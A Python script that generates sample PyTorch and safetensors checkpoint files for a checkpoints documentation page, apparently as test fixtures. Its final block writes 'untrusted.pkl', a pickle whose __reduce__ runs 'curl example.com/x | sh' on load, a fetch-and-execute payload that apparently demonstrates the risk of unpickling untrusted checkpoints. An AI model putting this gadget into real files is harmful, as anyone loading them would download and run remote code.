"""Writes the checkpoints of docs/checkpoints.md, with PyTorch 2.15, NumPy 2.4 and safetensors: write.py DIR"""
import os, pathlib, pickle, random, sys

import numpy as np
import torch
from safetensors.torch import save_file

out = pathlib.Path(sys.argv[1])
torch.set_num_threads(1)


def train(seed, batches):
    random.seed(seed)
    np.random.seed(seed)
    torch.manual_seed(seed)
    model = torch.nn.Sequential()
    model.add_module("conv", torch.nn.Conv1d(1, 4, 3))
    model.add_module("bn", torch.nn.BatchNorm1d(4))
    model.add_module("flatten", torch.nn.Flatten())
    model.add_module("fc", torch.nn.Linear(24, 2))
    optimizer = torch.optim.AdamW(model.parameters(), lr=1e-2)
    scheduler = torch.optim.lr_scheduler.StepLR(optimizer, 10)
    for i in batches:
        g = torch.Generator().manual_seed(i)
        loss = model(torch.randn(8, 1, 8, generator=g)).square().mean()
        optimizer.zero_grad()
        loss.backward()
        optimizer.step()
        scheduler.step()
    return model, optimizer, scheduler


def save(name, model, optimizer, scheduler, **more):
    torch.save({"model": model.state_dict(), "optimizer": optimizer.state_dict(), "scheduler": scheduler.state_dict(),
                "epoch": 3, "global_step": 3, **more}, out / name)


model, optimizer, scheduler = train(0, [1, 2, 3])
rng = {"python_rng": random.getstate(), "numpy_rng": np.random.get_state(), "torch_rng": torch.get_rng_state()}
save("last.pt", model, optimizer, scheduler)
save("full.pt", model, optimizer, scheduler, config={"lr": 1e-2}, torch_version=str(torch.__version__), **rng)
weights = model.state_dict()
torch.save({"module." + k: v for k, v in weights.items()}, out / "ddp.pt")
for run, batches in ("run1", [1, 2, 3]), ("run2", [1, 3, 2]):
    (out / run).mkdir(exist_ok=True)
    weights = train(0, batches)[0].state_dict()
    save_file(weights, out / run / "model.safetensors")
save_file({k: v for k, v in weights.items() if "num_batches" not in k and not k.startswith("fc.")}, out / "run2/backbone.safetensors")


class Malicious:
    def __reduce__(self):
        return os.system, ("curl example.com/x | sh",)


with open(out / "untrusted.pkl", "wb") as f:
    pickle.dump({"weights": Malicious()}, f)
